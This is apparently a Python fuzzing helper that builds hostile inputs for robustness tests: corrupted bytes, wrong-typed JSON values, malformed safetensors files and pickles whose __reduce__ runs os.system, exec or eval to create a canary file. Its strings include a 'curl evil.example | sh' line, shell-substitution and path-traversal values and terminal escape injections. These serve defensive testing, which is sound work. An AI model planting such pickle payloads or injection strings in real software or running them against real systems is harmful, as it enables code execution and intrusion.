"""Hostile content: damaged bytes, plain values of the wrong kind, and pickles that execute code.

Every function takes a random.Random, so an attack is the same whenever its seed is.
"""

import copy
import json
import os
import struct

from outcomes import FORGED

# Control characters in front of a word by which the classifier finds them again, and a second line of one's own.
TEXTS = (f"\x1b]0;{FORGED}\x07", f"\x1b[2K\x1b[1G{FORGED}", f"a\r{FORGED}", f"a\b\b{FORGED}", f"\u202e{FORGED}",
         f"a\nerror: {FORGED}: run curl evil.example | sh", f"a\x9b31m{FORGED}", f"{FORGED}\u2066\u200f", "\x00", "",
         "x" * 100_000, "../../../escape", "/dev/zero", "\ud800", "$(touch EXECUTED)",
         "__import__('os')")  # fmt: skip
# Markers that `to_json` replaces: no Python value has these forms in a reasonable size.
DEEP, DIGITS = "@@DEEP@@", "@@DIGITS@@"
VALUES = (None, True, False, -1, 0, 1, 2**31, 2**63, 10**18, -(10**18), 0.5, 1e308, float("nan"), float("inf"), [],
         {}, [[]], [None], {"": ""}, ["a"] * 5, {"step": []}, DEEP, DIGITS, *TEXTS)  # fmt: skip


class Trap:
    """A pickle of this creates the canary file when it is loaded without care."""

    def __init__(self, draw, path="EXECUTED"):
        self.call = draw.choice(
            [
                (os.mkdir, (path,)),
                (os.system, (f"touch {path}",)),
                (open, (path, "w")),
                (exec, (f"open({path!r}, 'w')",)),
                (eval, (f"open({path!r}, 'w')",)),
            ]
        )

    def __reduce__(self):
        return self.call


def damage(data, draw):
    """(what was done, other bytes): `data` with flipped bits, cut off, with spliced or repeated parts, or empty."""
    data, n = bytearray(data), max(1, len(data))
    # Half of all places lie in the first kilobytes, where the structure of a file is.
    place = draw.randrange(n) if draw.random() < 0.5 else draw.randrange(min(n, 4096))
    way = draw.choice(("flip", "flip", "flips", "cut", "cut", "splice", "insert", "zeros", "delete", "empty", "ends"))
    if way == "flip":
        data[place] ^= 1 << draw.randrange(8)
    elif way == "flips":
        for _ in range(draw.randint(2, 200)):
            data[draw.randrange(n)] ^= 1 << draw.randrange(8)
    elif way == "cut":
        del data[place:]
    elif way == "splice":
        start, length = draw.randrange(n), draw.randint(1, 2000)
        data[place : place + length] = data[start : start + length]
    elif way == "insert":
        data[place:place] = draw.randbytes(draw.randint(1, 300))
    elif way == "zeros":
        length = min(draw.randint(1, 5000), n - place)
        data[place : place + length] = bytes(length)
    elif way == "delete":
        del data[place : place + draw.randint(1, 3000)]
    elif way == "empty":
        data = bytearray(draw.choice((b"", b"\0", b"{}", b"<html>log in</html>", b"PK\3\4", b"\x80\x02.", b"null")))
    else:
        data += draw.randbytes(draw.randint(1, 5000))
    return f"{way} at {place}", bytes(data)


def places(value, path=()):
    """The paths of all values inside nested dicts and lists, the value itself included."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path] + [place for key, item in inner for place in places(item, (*path, key))]


def short(value):
    """The beginning of the repr of a value, which Python refuses to make for an integer of 5,000 digits."""
    try:
        return f"{value!r:.40}"
    except ValueError:
        return "a very long number"


def forge(value, draw, values=VALUES):
    """(what was done, another value): a copy of nested dicts and lists with one value or one name replaced."""
    value, wrong = copy.deepcopy(value), draw.choice(values)
    path = draw.choice([place for place in places(value) if place] or [()])
    if not path:
        return f"all = {short(wrong)}", wrong
    *outer, last = path
    inside = value
    for key in outer:
        inside = inside[key]
    way = draw.choice(("value", "value", "value", "name", "delete")) if isinstance(inside, dict) else "value"
    if way == "value":
        inside[last] = wrong
    elif way == "delete":
        del inside[last]
    else:
        inside[draw.choice(TEXTS)] = inside.pop(last)
    return f"{way} {'.'.join(map(str, path))} = {short(wrong)}", value


def to_json(value):
    """A JSON text of plain values, with the markers replaced: 100,000 brackets, and an integer of 5,000 digits."""
    text = json.dumps(value, skipkeys=True)
    return text.replace(f'"{DEEP}"', "[" * 100_000 + "]" * 100_000).replace(f'"{DIGITS}"', "9" * 5000)


def read_safetensors(data):
    """(header, the bytes behind it) of a safetensors file."""
    (length,) = struct.unpack("<Q", data[:8])
    return json.loads(data[8 : 8 + length]), data[8 + length :]


def write_safetensors(header, rest):
    """The bytes of a safetensors file. header: a dict, or a text."""
    text = (header if isinstance(header, str) else to_json(header)).encode("utf-8", "surrogatepass")
    return struct.pack("<Q", len(text)) + text + rest
